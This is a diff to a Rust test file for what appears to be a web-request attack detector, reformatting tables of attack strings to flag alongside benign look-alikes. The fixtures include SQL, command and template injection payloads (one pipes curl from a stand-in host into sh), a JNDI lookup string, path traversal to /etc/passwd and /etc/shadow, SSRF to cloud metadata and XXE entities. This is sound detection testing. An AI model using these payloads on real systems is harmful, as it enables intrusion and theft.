@@ -50,7 +50,13 @@ const CASES: &[(&str, &[&str], &[&str])] = &[
             "0/**/uNiOn/**/sElEcT/**/1,2",
             "admin'-- ",
         ],
-        &["O'Reilly & Sons", "select a colour from the list", "the union of workers", "rock 'n' roll", "5\" or 7\" pots"],
+        &[
+            "O'Reilly & Sons",
+            "select a colour from the list",
+            "the union of workers",
+            "rock 'n' roll",
+            "5\" or 7\" pots",
+        ],
     ),
     (
         "payload.script",
@@ -65,34 +71,72 @@ const CASES: &[(&str, &[&str], &[&str])] = &[
     ),
     (
         "payload.command",
-        &["a.png; cat /etc/hostname", "x && curl http://e.example/s | sh", "$(whoami)", "8.8.8.8|id", "=cmd|'/c calc'!A1"],
-        &["Run `make test` first; then commit.", "salt & pepper", "cats and dogs", "echo the question back to them"],
+        &[
+            "a.png; cat /etc/hostname",
+            "x && curl http://e.example/s | sh",
+            "$(whoami)",
+            "8.8.8.8|id",
+            "=cmd|'/c calc'!A1",
+        ],
+        &[
+            "Run `make test` first; then commit.",
+            "salt & pepper",
+            "cats and dogs",
+            "echo the question back to them",
+        ],
     ),
     (
         "payload.template",
-        &["{{7*7}}", "${jndi:ldap://e.example/a}", "{{config.items()}}", "<%= 7 * 7 %>", "<!--#exec cmd=\"ls\" -->"],
+        &[
+            "{{7*7}}",
+            "${jndi:ldap://e.example/a}",
+            "{{config.items()}}",
+            "<%= 7 * 7 %>",
+            "<!--#exec cmd=\"ls\" -->",
+        ],
         &["Dear Ada, {see below}", "use {} for a set", "costs $5 {net}", "the config class"],
     ),
     (
         "payload.file",
-        &["../../../../etc/passwd", "..%2f..%2f..%2fboot.ini", "/etc/shadow", "php://filter/convert.base64-encode/resource=index"],
+        &[
+            "../../../../etc/passwd",
+            "..%2f..%2f..%2fboot.ini",
+            "/etc/shadow",
+            "php://filter/convert.base64-encode/resource=index",
+        ],
         &["and so on...", "photos/2026/ada.png", "either/or", "1/2"],
     ),
     (
         "payload.ssrf",
-        &["http://169.254.169.254/latest/meta-data/", "http://localhost:8080/admin", "gopher://10.0.0.1:6379/_x", "http://0x7f000001/"],
+        &[
+            "http://169.254.169.254/latest/meta-data/",
+            "http://localhost:8080/admin",
+            "gopher://10.0.0.1:6379/_x",
+            "http://0x7f000001/",
+        ],
         &["https://shop.example/p/17", "ada@shop.example"],
     ),
     (
         "payload.xml",
-        &["<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/hosts\">]><r>&x;</r>", "<!DOCTYPE r [<!ENTITY % x SYSTEM \"http://e.example/x.dtd\"> %x;]>"],
+        &[
+            "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/hosts\">]><r>&x;</r>",
+            "<!DOCTYPE r [<!ENTITY % x SYSTEM \"http://e.example/x.dtd\"> %x;]>",
+        ],
         &["an xml document", "an entity of the state"],
     ),
     ("payload.nosql", &["{\"$gt\": \"\"}", "[$ne]=1"], &["$5", "costs $gt per unit? {no}"]),
     ("payload.ldap", &["*)(&(uid=*))", "(&(uid=ada)(!(x=1)))"], &["(see above)", "5 * 3"]),
     ("payload.xpath", &["') or //user[position()=1] | a[('"], &["a/b", "child"]),
-    ("payload.header", &["en\r\nSet-Cookie: session=7", "x%0d%0aLocation: http://e.example/"], &["First line\nSecond line", "a\r\n\r\nb"]),
-    ("payload.prototype", &["__proto__", "constructor.prototype.admin"], &["a constructor", "the prototype was built"]),
+    (
+        "payload.header",
+        &["en\r\nSet-Cookie: session=7", "x%0d%0aLocation: http://e.example/"],
+        &["First line\nSecond line", "a\r\n\r\nb"],
+    ),
+    (
+        "payload.prototype",
+        &["__proto__", "constructor.prototype.admin"],
+        &["a constructor", "the prototype was built"],
+    ),
     (
         "payload.deserialization",
         &["rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==", "O:8:\"Exploit\":1:{s:3:\"cmd\";s:2:\"id\";}"],
@@ -148,7 +192,11 @@ fn every_place_is_looked_at() {
 #[test]
 fn nothing_of_the_value_is_in_the_reason() {
     let found = findings_of(json!({}), &[(":path", "/?id=7777'+or+'secretword'='secretword")], b"");
-    assert!(found[0].reason.contains("`query.id`") && found[0].reason.contains("a tautology"), "{}", found[0].reason);
+    assert!(
+        found[0].reason.contains("`query.id`") && found[0].reason.contains("a tautology"),
+        "{}",
+        found[0].reason
+    );
     assert!(!found[0].reason.contains("secretword"), "{}", found[0].reason);
 }
 
@@ -171,7 +219,8 @@ fn what_is_not_believed_is_not_found() {
         (json!({"place": "query.id"}), 1),
         (json!({"place": "query.id*", "route": "notes"}), 1),
     ] {
-        let found = findings_of(json!({ "exclusions": [exclusion] }), &[(":path", attack), (":method", "GET")], b"");
+        let found =
+            findings_of(json!({ "exclusions": [exclusion] }), &[(":path", attack), (":method", "GET")], b"");
         assert_eq!(found.len(), left, "{exclusion}");
     }
 }
